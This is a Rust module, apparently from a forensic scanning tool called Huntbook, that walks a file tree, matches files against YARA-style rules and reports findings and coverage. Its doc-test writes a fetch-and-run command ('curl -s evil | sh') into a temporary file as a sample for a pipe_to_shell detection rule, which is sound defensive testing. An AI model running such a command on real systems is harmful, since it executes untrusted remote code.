//! The scan: walk a tree, read its files, have them matched, report findings and coverage. Knows no screen.
//!
//! [`Scan::start`] returns at once. Threads of its own walk the tree, and as many workers as asked for take the paths,
//! read each file into a buffer (never mapped: a mapped file that is truncated kills the process) and match it.
//! What they find comes over a bounded channel as [`ScanEvent`]s; [`Control`] steers, [`Progress`] tells how far it is. A file
//! system that does not answer holds up nothing but the thread that asked it, and that thread is replaced.

mod control;
mod coverage;
mod engine;
mod externals;
mod facts;
mod file_reader;
mod keeping;
mod members;
mod memory;
mod narrow;
mod only;
mod open_folder;
pub(crate) mod prefilter;
mod probe;
mod processes;
mod read;
mod rules;
mod shared;
mod streamed;
mod subject;
mod supervisor;
#[cfg(test)]
mod tests;
mod tree;
mod unresponsive;
#[cfg(test)]
mod unresponsive_tests;
mod walk;
mod windows;
mod work_queue;
mod worker;
mod worker_slot;

use std::collections::HashSet;
use std::path::PathBuf;
use std::sync::atomic::AtomicU64;
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::Duration;

use crossbeam_channel::Receiver;
use jiff::Timestamp;

pub(crate) use crate::hunt::engine_runs;
pub use control::{Control, Current, ProgressSnapshot};
pub(crate) use control::{Progress, scanned};
pub(crate) use coverage::{REASON_KINDS, UNUSED_RULE, is_gap_kind};
pub use coverage::{Reason, Unscanned};
pub(crate) use externals::Externals;
pub(crate) use facts::{MAX_HASHED_ZEROS, digest_now, facts_now};
pub(crate) use keeping::{ALL_KEPT, MAX_KEPT};
pub(crate) use only::Only;
pub(crate) use probe::{PatternLocations, probe};
pub use processes::ProcessOptions;
pub(crate) use rules::{CandidateTest, RulesError};
pub use rules::{RuleSource, Ruleset};
pub use tree::Tree;
pub(crate) use tree::is_pseudo_type;
pub(crate) use walk::BadGlob;
pub use walk::WalkOptions;

use crate::accounts::Accounts;
use crate::archive::Limits;
use crate::finding::{Finding, KeptBytes};
use crate::root::Root;
use crate::timeout::{self, NoThread};
use keeping::Keeping;
use memory::MemoryBudget;
use processes::ProcessScan;
use shared::{Shared, System};
use supervisor::Supervisor;
use unresponsive::UnresponsiveDevices;
use walk::Walk;

/// Matches of one pattern in one file that are listed at most; a finding that met the cap says so.
pub(crate) const MATCHES_PER_PATTERN: usize = 100_000;
/// Default of `--match-timeout`.
pub(crate) const MATCH_TIMEOUT: Duration = Duration::from_mins(1);
/// Default of `--read-timeout`.
pub(crate) const READ_TIMEOUT: Duration = Duration::from_secs(30);
/// Default of `--file-timeout`: at 100 MB a second, 180 GB.
pub(crate) const FILE_TIMEOUT: Duration = Duration::from_mins(30);
/// Default of `--max-file-size`, in bytes.
pub(crate) const MAX_FILE_SIZE: u64 = 1 << 30;
/// Bytes of files that all workers together hold beside their chunks. A larger file is held while no other is.
const MEMORY: u64 = 16 << 20;
/// The same where rules want every file whole: holding only few of them at once would leave workers without work.
const WHOLE_MEMORY: u64 = 256 << 20;
/// The same where a first pass leaves few of those files.
const LEFT_MEMORY: u64 = 64 << 20;
/// Events that wait for the watcher before workers do.
const EVENTS: usize = 4096;

/// What is scanned and how.
#[derive(Debug, Clone)]
pub struct ScanOptions {
    /// What the walk leaves out.
    pub walk: WalkOptions,
    /// Workers that match; at least one.
    pub threads: usize,
    /// Largest file that is held in memory whole, in bytes. Files of any size are streamed through the prefilter, and
    /// rules that allow it are matched around what it locates; only rules that need the whole of a larger file are not
    /// matched against it, and coverage says so.
    pub max_file_size: u64,
    /// Files up to this many bytes are kept whole with their findings, at most [`MAX_KEPT`]; of larger ones, and where
    /// [`ALL_KEPT`] is used up, what is around the matches.
    pub keep: u64,
    /// How much is taken out of archives and compressed files; `None` leaves them closed, and only matches them as they are.
    pub archives: Option<Limits>,
    /// What is looked at of processes, on a live box.
    pub processes: ProcessOptions,
    /// Files that have neither changed nor come into being since then are left out; coverage counts them.
    pub newer: Option<Timestamp>,
    /// How long one file may be matched, in whole seconds; what takes longer is in coverage.
    pub match_timeout: Duration,
    /// How long one file may take in all, pauses left out; what takes longer is in coverage, so that a file without end
    /// does not keep a scan from its own.
    pub file_timeout: Duration,
    /// How long a file system may leave a question about a file or folder without an answer; what takes longer is in
    /// coverage, and the scan goes on without it.
    pub read_timeout: Duration,
    /// Count the files ahead, for percent and time left.
    pub count_ahead: bool,
    /// Files that are Huntbook's own; they are listed in coverage by device and inode, wherever they are met.
    pub own_files: Vec<PathBuf>,
    /// The box that the tree is part of: its accounts name the owners.
    pub root: Root,
}

impl Default for ScanOptions {
    fn default() -> Self {
        Self {
            walk: WalkOptions::default(),
            threads: std::thread::available_parallelism().map_or(1, usize::from),
            max_file_size: MAX_FILE_SIZE,
            keep: KeptBytes::WHOLE,
            archives: Some(Limits::default()),
            processes: ProcessOptions::default(),
            newer: None,
            match_timeout: MATCH_TIMEOUT,
            file_timeout: FILE_TIMEOUT,
            read_timeout: READ_TIMEOUT,
            count_ahead: false,
            own_files: Vec::new(),
            root: Root::live(),
        }
    }
}

/// What a scan reports while it runs. Findings come in no particular order.
#[derive(Debug)]
pub enum ScanEvent {
    /// A rule matched a file, or a candidate condition holds for a file that the rule did not match.
    Finding(Finding),
    /// Something was not scanned.
    Unscanned(Unscanned),
    /// The last event.
    Finished {
        /// The final progress.
        reading: ProgressSnapshot,
        /// How it ended.
        end: ScanConclusion,
    },
}

/// How a scan came to its end.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ScanConclusion {
    /// It went through the whole tree.
    Complete,
    /// Somebody ended it.
    Cancelled,
    /// It could not go on; the text says why.
    Failed(String),
}

/// Why a scan does not start.
#[derive(Debug, thiserror::Error)]
pub enum StartError {
    /// A glob of `exclude` cannot be understood.
    #[error(transparent)]
    Glob(#[from] BadGlob),
    /// There is no thread for it.
    #[error(transparent)]
    NoThread(#[from] NoThread),
}

/// A scan that was started.
///
/// ```
/// use std::sync::Arc;
/// use huntbook::internals::scan::{ScanEvent, RuleSource, Ruleset, Scan, ScanOptions, Tree};
///
/// let folder = tempfile::tempdir()?;
/// std::fs::write(folder.path().join("script"), "curl -s evil | sh")?;
/// let text = r#"rule pipe_to_shell { strings: $a = "| sh" condition: $a }"#.to_owned();
/// let rule = RuleSource { namespace: "own".into(), origin: "own.yar".into(), text: text.into(), warnings: None };
/// let rules = Arc::new(Ruleset::compile(&[rule], &[])?);
///
/// let scan = Scan::start(Tree::open(folder.path())?, rules, ScanOptions::default())?;
/// let mut found = Vec::new();
/// for event in &scan.events {
///     match event {
///         ScanEvent::Finding(finding) => found.push((finding.found_by.name().into_owned(), finding.matches[0].offset)),
///         ScanEvent::Unscanned(missed) => panic!("nothing is missed silently: {missed:?}"),
///         ScanEvent::Finished { .. } => break,
///     }
/// }
/// scan.join();
/// assert_eq!(found, [("pipe_to_shell".to_owned(), 13)]);
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Debug)]
pub struct Scan {
    /// What it reports. A dropped receiver ends the scan.
    pub events: Receiver<ScanEvent>,
    /// Pauses it, ends it, has it skip a file.
    pub control: Arc<Control>,
    /// How far it is.
    pub progress: Arc<Progress>,
    thread: Option<JoinHandle<()>>,
}

impl Scan {
    /// Starts scanning `tree` with `rules` on threads of its own.
    ///
    /// # Errors
    /// A glob of `exclude` that cannot be understood, or a system that starts no thread.
    pub fn start(tree: Tree, rules: Arc<Ruleset>, options: ScanOptions) -> Result<Self, StartError> {
        Self::start_on(System::REAL, tree, rules, options)
    }

    fn start_on(system: System, tree: Tree, rules: Arc<Ruleset>, options: ScanOptions) -> Result<Self, StartError> {
        let globs = options.walk.globs(tree.start())?;
        let control = Arc::new(Control::default());
        let progress = Arc::new(Progress::new());
        let (sender, events) = crossbeam_channel::bounded(EVENTS);
        let prefilter = rules.prefilter();
        let memory = match (prefilter.always_full(), prefilter.has_first_pass()) {
            (false, _) => MEMORY,
            (true, true) => LEFT_MEMORY,
            (true, false) => WHOLE_MEMORY,
        };
        let ahead = options.count_ahead.then(|| Walk::new(&tree, options.walk.clone(), globs.clone()));
        let only = options.walk.only.clone();
        let walk = Walk::new(&tree, options.walk, globs);
        let processes = ProcessScan::new(options.processes, tree.start(), options.root.is_live());
        let shared = Shared {
            tree,
            system,
            rules,
            accounts: Accounts::read_within(options.read_timeout, &options.root),
            own: own_files(&options.own_files),
            max_file_size: options.max_file_size,
            keeping: Keeping::new(options.keep),
            archives: options.archives,
            processes,
            boot: processes::boot(),
            newer: options.newer,
            older: AtomicU64::new(0),
            only,
            match_timeout: options.match_timeout,
            file_timeout: options.file_timeout,
            memory: Arc::new(MemoryBudget::new(memory)),
            workers: options.threads.max(1),
            unresponsive: UnresponsiveDevices::default(),
            disguised: Mutex::default(),
            control: Arc::clone(&control),
            progress: Arc::clone(&progress),
            events: sender,
        };
        let shared = Arc::new(shared);
        let supervisor = Supervisor::new(Arc::clone(&shared), options.read_timeout);
        let run = move || {
            for unused in shared.rules.unused() {
                shared.unscanned(unused.clone());
            }
            supervisor.run(walk, ahead);
        };
        let thread = timeout::spawn("supervisor", run)?;
        Ok(Self { events, control, progress, thread: Some(thread) })
    }

    /// Waits until all threads of the scan have ended, but for those that their file system does not answer. The events
    /// must be taken or dropped by then.
    pub fn join(mut self) {
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

fn own_files(paths: &[PathBuf]) -> HashSet<(u64, u64)> {
    let executable = std::fs::File::open("/proc/self/exe").ok().and_then(|file| rustix::fs::fstat(file).ok());
    let named = paths.iter().filter_map(|path| rustix::fs::stat(path).ok());
    named.chain(executable).map(|stat| (stat.st_dev, stat.st_ino)).collect()
}
